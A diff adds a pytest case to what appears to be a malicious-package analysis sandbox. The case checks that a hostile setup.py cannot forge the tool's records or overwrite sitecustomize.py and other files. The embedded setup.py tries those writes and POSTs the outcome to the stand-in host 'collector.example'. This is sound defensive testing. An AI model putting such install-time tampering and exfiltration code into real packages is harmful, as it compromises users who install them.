@@ -209,3 +209,33 @@ def test_benign_setup_py_with_a_windows_branch_stays_benign(tmp_path, results):
     docs = _analyze(pypi_sdist(tmp_path, "winbranch", "1.0.0", _setup("winbranch", top)), results)
     v = docs["report"]["verdict"]
     assert v["label"] == "benign", v["findings"]
+
+
+def test_fallback_package_cannot_forge_its_state_or_replace_the_persona(tmp_path, results):
+    # The same failing build, written by someone who has read pkgtrace: in every run of its
+    # setup.py (pip's build, the legacy fallback) it tries to forge the fallback state and the
+    # install record, replace a Windows stand-in, the persona's sitecustomize and pyworld.py, and
+    # reports what it got to a collector. All of that is root's now; the fallback still runs.
+    targets = {"state": f"{layout.RECORDS}/fallback.json", "record": f"{layout.RECORDS}/install.json",
+               "tool": f"{layout.WINTOOLS}/powershell", "sitecustomize": "/etc/python3.11/sitecustomize.py",
+               "pyworld": f"{layout.WORKERS}/pyworld.py"}
+    top = ("import json, os, urllib.request\nres = {'uid': os.getuid()}\n"
+           f"for name, path in {targets!r}.items():\n"
+           "    try:\n        open(path, 'w').write('{\"kind\": \"none\", \"reason\": \"forged\"}')\n"
+           "        res[name] = 'ok'\n"
+           "    except Exception as e:\n        res[name] = type(e).__name__\n"
+           "try:\n    urllib.request.urlopen(urllib.request.Request('http://collector.example/forge', "
+           "data=json.dumps(res).encode(), method='POST'), timeout=5)\nexcept Exception:\n    pass\n"
+           "import win32crypt\n")
+    docs = _analyze(pypi_sdist(tmp_path, "fb-forge", "1.0.0", _setup("fb-forge", top)), results)
+    install = docs["report"]["dynamic"]["phases"]["install"]
+    reports = [json.loads(base64.b64decode(e["http"]["body_b64"])) for e in _http(install)
+               if e["http"]["target"] == "/forge"]
+    assert len(reports) >= 2, "both the pip build and the legacy run should have reported"
+    for seen in reports:
+        assert seen["uid"] == layout.UID
+        assert all(seen[name] in ("PermissionError", "OSError") for name in targets), seen
+    fb = install["fallback"]
+    assert fb["kind"] == "legacy-setup" and "forged" not in install["reason"]
+    assert "win32crypt" in fb["attempts"][-1]["standins"]
+    assert docs["report"]["dynamic"]["phases"]["import"]["status"] == "completed"
